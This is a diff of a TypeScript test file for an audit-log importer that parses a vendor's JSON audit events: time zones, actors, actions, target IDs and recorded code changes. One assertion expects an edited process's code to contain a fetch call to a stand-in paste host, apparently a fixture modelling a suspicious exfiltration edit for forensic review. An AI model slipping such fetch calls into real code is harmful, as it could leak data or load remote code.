@@ -4,13 +4,16 @@ import { type Change, byRaw, changes, expectBatch, importFixture, utc } from './
 /** The seed vendors' packs, end to end: each fixture imported into a fresh case, then read back. */
 
 describe('yepcode pack', () => {
-  it('maps the JSON export, team-zone times and source code changes', async () => {
+  it('maps the JSON export as documented: ID is the affected entity, team-zone times, code and attribute changes', async () => {
     const { summary, rows } = await importFixture('yepcode/audit-events.json', 'Europe/Madrid');
     expectBatch(summary, 'yepcode', 'json-array', 15);
     expect(rows).toHaveLength(15);
     expect(new Set(rows.map((r) => r.vendor))).toEqual(new Set(['yepcode']));
+    // Six events touch the same process: all six are kept, none has a vendor event id.
+    expect(rows.filter((r) => r.target_id === 'prc_7Hq2LmN4')).toHaveLength(6);
+    expect(rows.every((r) => r.vendor_event_id === null && !r.id_conflict)).toBe(true);
 
-    const edit = byRaw(rows, 'id', 'ae1c2f90-0b7e-4a0e-9d51-3f1f6c1b0a08');
+    const edit = byRaw(rows, 'Time', '2025-03-04 03:12:18');
     expect(utc(edit.event_time)).toBe('2025-03-04T02:12:18.000Z');
     expect(edit.time_raw).toBe('2025-03-04 03:12:18');
     expect(edit.time_assumed_tz).toBe('Europe/Madrid');
@@ -22,7 +25,7 @@ describe('yepcode pack', () => {
       action_class: 'update',
       target_type: 'PROCESS',
       target_id: 'prc_7Hq2LmN4',
-      target_name: 'invoice-sync',
+      target_name: null,
       outcome: 'unknown',
     });
     const [code, ...others] = changes(edit);
@@ -33,32 +36,43 @@ describe('yepcode pack', () => {
     expect(String(code?.new)).toContain('await fetch("https://paste.example.net/u/8f3k"');
     expect(String(code?.new).split('\n').length).toBeGreaterThan(10);
 
-    const created = byRaw(rows, 'id', 'ae1c2f90-0b7e-4a0e-9d51-3f1f6c1b0a01');
-    expect(changes(created).map((c) => c.field)).toEqual(['code', 'name', 'description']);
-    expect(changes(created)[1]).toEqual({ field: 'name', old: null, new: 'invoice-sync' });
+    // content.after as an object of attributes: one change per attribute, no old values.
+    const created = byRaw(rows, 'Time', '2025-03-03 09:58:41');
+    expect(changes(created).map((c) => c.field)).toEqual(['code', 'description', 'name']);
+    expect(changes(created)[2]).toEqual({ field: 'name', old: null, new: 'invoice-sync' });
 
-    const failed = byRaw(rows, 'id', 'ae1c2f90-0b7e-4a0e-9d51-3f1f6c1b0a10');
-    expect(failed).toMatchObject({
+    const run = byRaw(rows, 'Time', '2025-03-04 04:00:00');
+    expect(run).toMatchObject({
       actor: '@scheduler',
       actor_type: 'scheduler',
       src_ip: null,
       action: 'EXECUTED',
       action_class: 'execute',
-      outcome: 'failure',
-      outcome_raw: 'ERROR',
+      target_type: 'EXECUTION',
+      outcome: 'unknown',
     });
-    expect(utc(failed.event_time)).toBe('2025-03-04T03:00:00.000Z');
+    expect(utc(run.event_time)).toBe('2025-03-04T03:00:00.000Z');
 
-    const hook = byRaw(rows, 'id', 'ae1c2f90-0b7e-4a0e-9d51-3f1f6c1b0a05');
-    expect(hook).toMatchObject({ actor: '@webhook', actor_type: 'webhook', src_ip: '192.0.2.10', outcome: 'success' });
+    const hook = byRaw(rows, 'Time', '2025-03-03 11:07:33');
+    expect(hook).toMatchObject({ actor: '@webhook', actor_type: 'webhook', src_ip: '192.0.2.10' });
 
-    const disable = byRaw(rows, 'id', 'ae1c2f90-0b7e-4a0e-9d51-3f1f6c1b0a14');
+    const disable = byRaw(rows, 'Time', '2025-03-04 08:41:06');
     expect(changes(disable)).toEqual([{ field: 'enabled', old: true, new: false }]);
-    const invite = byRaw(rows, 'id', 'ae1c2f90-0b7e-4a0e-9d51-3f1f6c1b0a07');
+    const invite = byRaw(rows, 'Time', '2025-03-03 11:31:47');
     expect(invite).toMatchObject({ action: 'INVITATION SENT', action_class: 'permission', target_type: 'TEAM' });
-    const deleted = byRaw(rows, 'id', 'ae1c2f90-0b7e-4a0e-9d51-3f1f6c1b0a13');
-    expect(deleted).toMatchObject({ action: 'DELETED', action_class: 'delete', target_name: 'audit-helpers' });
+    const deleted = byRaw(rows, 'Time', '2025-03-04 03:25:51');
+    expect(deleted).toMatchObject({ action: 'DELETED', action_class: 'delete', target_id: 'mod_Lk22' });
     expect(deleted.changes).toBeNull();
+  });
+
+  it('reads the lower-case keys too, and keeps two identical runs in the same second as two events', async () => {
+    const { summary, rows } = await importFixture('yepcode/audit-events-lowercase.json', 'UTC');
+    expectBatch(summary, 'yepcode', 'json-array', 4);
+    expect(rows).toHaveLength(4);
+    const edit = byRaw(rows, 'time', '2025-03-03 14:41:07');
+    expect(edit).toMatchObject({ actor: 'sam.k@acme.example', action: 'UPDATED', target_type: 'PROCESS', target_id: 'prc_Sp0rt111' });
+    expect(changes(edit).map((c) => c.field)).toEqual(['code']);
+    expect(rows.filter((r) => r.action === 'EXECUTED')).toHaveLength(2);
   });
 });
 
